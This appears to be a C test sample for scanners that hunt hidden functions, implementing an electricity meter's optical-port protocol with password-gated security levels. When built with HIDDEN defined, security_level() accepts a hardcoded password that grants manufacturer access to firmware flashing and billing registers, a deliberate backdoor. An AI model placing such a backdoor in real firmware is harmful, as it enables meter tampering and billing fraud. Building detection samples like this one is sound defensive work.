/*
 * Sample for tests of the search for hidden functions; compiled and scanned,
 * never run. Optical port of an electricity meter: framed requests, security
 * levels, registers that only the calibration bench may write.
 * Hidden (-DHIDDEN): eight fixed bytes as password give the manufacturer's
 * level, at which the firmware and the billing registers can be written.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum { L_PUBLIC, L_READER, L_UTILITY, L_MAKER };
enum { R_IDENT = 0x20, R_LOGON = 0x50, R_SECURITY = 0x51, R_LOGOFF = 0x52,
       R_READ = 0x30, R_WRITE = 0x40, R_FLASH = 0x4f };
enum { OK = 0x00, ERR = 0x01, NOT_ALLOWED = 0x03, BAD_ARG = 0x04 };
enum { MAX_FRAME = 256, REGISTERS = 24, PASSWORD = 8 };

struct session {
	int level;
	int failures;
	uint16_t user;
};

struct reg {
	uint32_t value;
	uint8_t read_level;
	uint8_t write_level;
};

static struct reg regs[REGISTERS];
static uint8_t reader_password[PASSWORD], utility_password[PASSWORD];
static int passwords_set;
static int port = -1;

static int load_passwords(const char *path)
{
	int fd = open(path, O_RDONLY);

	if (fd < 0)
		return -1;
	passwords_set = read(fd, reader_password, PASSWORD) == PASSWORD &&
			read(fd, utility_password, PASSWORD) == PASSWORD;
	close(fd);
	return passwords_set ? 0 : -1;
}

static void init_registers(void)
{
	int i;

	for (i = 0; i < REGISTERS; i++) {
		regs[i].read_level = i < 8 ? L_PUBLIC : L_READER;
		regs[i].write_level = i < 16 ? L_MAKER : L_UTILITY;
	}
	regs[0].value = 20412;
}

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t crc = 0xffff;
	int bit;

	while (n-- > 0) {
		crc ^= *p++;
		for (bit = 0; bit < 8; bit++)
			crc = (uint16_t)(crc & 1 ? crc >> 1 ^ 0x8408 : crc >> 1);
	}
	return (uint16_t)~crc;
}

static int same_bytes(const uint8_t *a, const uint8_t *b, size_t n)
{
	uint8_t differ = 0;

	while (n-- > 0)
		differ |= (uint8_t)(*a++ ^ *b++);
	return differ == 0;
}

static int read_all(uint8_t *p, size_t n)
{
	while (n > 0) {
		ssize_t got = read(port, p, n);

		if (got <= 0)
			return -1;
		p += got;
		n -= (size_t)got;
	}
	return 0;
}

/* The body of the next good frame (0xee, length, body, CRC); its length. */
static size_t next_frame(uint8_t *body)
{
	uint8_t mark, length, crc[2];

	do {
		if (read_all(&mark, 1) != 0)
			return 0;
	} while (mark != 0xee);
	if (read_all(&length, 1) != 0 || length == 0 ||
	    read_all(body, length) != 0 || read_all(crc, 2) != 0)
		return 0;
	return crc16(body, length) == (crc[0] | crc[1] << 8) ? length : 0;
}

static void answer(const uint8_t *body, size_t n)
{
	uint8_t frame[MAX_FRAME + 4];
	uint16_t crc = crc16(body, n);

	frame[0] = 0xee;
	frame[1] = (uint8_t)n;
	memcpy(frame + 2, body, n);
	frame[n + 2] = (uint8_t)crc;
	frame[n + 3] = (uint8_t)(crc >> 8);
	if (write(port, frame, n + 4) != (ssize_t)(n + 4))
		perror("emlink: write");
}

/* The level that a password opens, L_PUBLIC for none. */
__attribute__((noinline)) int security_level(const uint8_t *password)
{
#ifdef HIDDEN
	if (memcmp(password, "Wd7#pQ2z", PASSWORD) == 0)
		return L_MAKER;
#endif
	if (!passwords_set)
		return L_PUBLIC;
	if (same_bytes(password, utility_password, PASSWORD))
		return L_UTILITY;
	if (same_bytes(password, reader_password, PASSWORD))
		return L_READER;
	return L_PUBLIC;
}

/* The bench closes a jumper below the seal. */
static int seal_open(void)
{
	char state = '0';
	int fd = open("/sys/class/gpio/gpio17/value", O_RDONLY);

	if (fd < 0)
		return 0;
	if (read(fd, &state, 1) != 1)
		state = '0';
	close(fd);
	return state == '1';
}

static int do_security(struct session *s, const uint8_t *arg, size_t n)
{
	if (n != PASSWORD)
		return BAD_ARG;
	if (s->failures >= 3)
		return NOT_ALLOWED;
	s->level = security_level(arg);
	if (s->level == L_PUBLIC) {
		s->failures++;
		sleep(2);
		return NOT_ALLOWED;
	}
	if (s->level == L_UTILITY && seal_open())
		s->level = L_MAKER;
	s->failures = 0;
	return OK;
}

static int do_write(const struct session *s, const uint8_t *arg, size_t n)
{
	struct reg *r;

	if (n != 5 || arg[0] >= REGISTERS)
		return BAD_ARG;
	r = &regs[arg[0]];
	if (s->level < r->write_level)
		return NOT_ALLOWED;
	r->value = (uint32_t)arg[1] << 24 | (uint32_t)arg[2] << 16 |
		   (uint32_t)arg[3] << 8 | arg[4];
	return OK;
}

static int do_flash(const struct session *s, const uint8_t *arg, size_t n)
{
	int fd, status = ERR;

	if (s->level < L_MAKER)
		return NOT_ALLOWED;
	fd = open("/var/flash/image", O_WRONLY | O_CREAT | O_APPEND, 0600);
	if (fd < 0)
		return ERR;
	if (write(fd, arg, n) == (ssize_t)n)
		status = OK;
	close(fd);
	if (n == 0 && system("/usr/sbin/flashmeter /var/flash/image") != 0)
		status = ERR;
	return status;
}

static void handle(struct session *s, const uint8_t *body, size_t n)
{
	uint8_t out[16] = { OK };
	const uint8_t *arg = body + 1;
	size_t m = 1;

	n--;
	switch (body[0]) {
	case R_IDENT:
		memcpy(out + 1, "EM3\x01\x04", 5);
		m = 6;
		break;
	case R_LOGON:
		if (n >= 2)
			s->user = (uint16_t)(arg[0] << 8 | arg[1]);
		break;
	case R_SECURITY:
		out[0] = (uint8_t)do_security(s, arg, n);
		break;
	case R_READ:
		if (n != 1 || arg[0] >= REGISTERS) {
			out[0] = BAD_ARG;
		} else if (s->level < regs[arg[0]].read_level) {
			out[0] = NOT_ALLOWED;
		} else {
			uint32_t v = regs[arg[0]].value;

			out[1] = (uint8_t)(v >> 24);
			out[2] = (uint8_t)(v >> 16);
			out[3] = (uint8_t)(v >> 8);
			out[4] = (uint8_t)v;
			m = 5;
		}
		break;
	case R_WRITE:
		out[0] = (uint8_t)do_write(s, arg, n);
		break;
	case R_FLASH:
		out[0] = (uint8_t)do_flash(s, arg, n);
		break;
	case R_LOGOFF:
		memset(s, 0, sizeof(*s));
		break;
	default:
		out[0] = ERR;
	}
	answer(out, m);
}

int main(int argc, char **argv)
{
	struct session session;
	uint8_t body[MAX_FRAME];
	struct termios t;

	port = open(argc > 1 ? argv[1] : "/dev/ttyS1", O_RDWR | O_NOCTTY);
	if (port < 0 || tcgetattr(port, &t) != 0) {
		perror("emlink");
		return 1;
	}
	cfmakeraw(&t);
	cfsetspeed(&t, B9600);
	tcsetattr(port, TCSANOW, &t);
	init_registers();
	if (load_passwords("/etc/meter/passwords") != 0)
		fputs("emlink: no passwords, public registers only\n", stderr);
	memset(&session, 0, sizeof(session));
	for (;;) {
		size_t n = next_frame(body);

		if (n > 0)
			handle(&session, body, n);
		else
			usleep(50000);
	}
}
